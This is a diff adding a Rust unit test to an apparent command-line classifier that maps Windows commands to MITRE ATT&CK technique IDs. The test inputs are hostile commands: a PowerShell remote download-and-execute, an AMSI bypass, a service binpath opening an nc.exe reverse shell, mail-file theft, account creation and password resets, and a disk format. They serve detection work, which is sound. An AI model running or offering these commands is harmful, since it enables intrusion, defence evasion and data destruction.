@@ -841,3 +841,81 @@ fn the_switch_that_matters_names_the_technique_an_analyst_would() {
         ),
     ]);
 }
+
+#[test]
+fn general_readings_found_by_the_second_blind_set() {
+    check(&[
+        // The program's own flags between a switch and its value: `root` is still -addstore's.
+        (
+            r"certutil -addstore -f root C:\Users\Public\ca.cer",
+            &["T1553.004"],
+            &[],
+        ),
+        // `cmd /c echo CODE | powershell -` as one process line: the pipe is split before /c.
+        (
+            r"cmd.exe /c echo IEX(iwr http://2.2.2.2/a) | powershell -",
+            &["T1059.001", "T1105"],
+            &[],
+        ),
+        // A Get piped into a ForEach-Object or Where-Object block: the acting cmdlet tells it.
+        (
+            r#"powershell -c "Get-LocalUser | ForEach-Object { Disable-LocalUser -Name $_.Name }""#,
+            &["T1531"],
+            &[],
+        ),
+        (
+            r#"powershell -c "Get-Service | Where-Object { $_.Name -like '*sql*' } | Stop-Service -Force""#,
+            &["T1489"],
+            &[],
+        ),
+        // A literal split with + still reads as the word it hides.
+        (
+            r#"powershell -nop -c "$w=[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils');$w.GetField('am'+'siInitFailed','NonPublic,Static').SetValue($null,$true)""#,
+            &["T1562.001"],
+            &[],
+        ),
+        // Folder classes with a technique count for any program naming a file there.
+        (
+            r#"copy C:\Users\Public\Normal.dotm "%APPDATA%\Microsoft\Templates\Normal.dotm" /y"#,
+            &["T1137.001"],
+            &[],
+        ),
+        (
+            r#"xcopy "C:\Users\bob\AppData\Local\Microsoft\Outlook\*.ost" C:\Users\Public\mail\ /s /y"#,
+            &["T1114.001"],
+            &[],
+        ),
+        // Delayed-expansion substrings in a loop hide words like %VAR:~n,m% does.
+        (
+            r#"cmd /V:ON /c "set x=lehsrewop&& for /L %i in (8,-1,0) do set r=!r!!x:~%i,1!&& !r! -c calc""#,
+            &["T1027.010"],
+            &[],
+        ),
+        // A password after the account name resets it; it is not a lookup.
+        (r"net user jsmith NewPass!2024 /domain", &["T1098"], &[]),
+        (r"net user jsmith /domain", &["T1087.002"], &[]),
+        // The service's command line is the evidence, even when that command says more.
+        (
+            r#"sc.exe config upnphost binpath= "C:\Users\Public\nc.exe -e cmd 10.0.0.1 4444" obj= ".\LocalSystem" password= """#,
+            &["T1543.003"],
+            &[],
+        ),
+        (
+            r"tar -xf C:\Users\Public\tools.zip -C C:\ProgramData\t",
+            &["T1140"],
+            &[],
+        ),
+        (
+            r"xwizard.exe RunWizard /taero /u {7940acf8-60ba-4213-a7c3-f3b400ee266d}",
+            &["T1218"],
+            &[],
+        ),
+        (r"winrm quickconfig -q", &["T1021.006"], &[]),
+        (r"format D: /FS:NTFS /Q /Y", &["T1561.001", "T1485"], &[]),
+        (
+            r#"dsadd user "CN=backup2,CN=Users,DC=corp,DC=local" -pwd P@ss1 -disabled no"#,
+            &["T1136.002"],
+            &[],
+        ),
+    ]);
+}
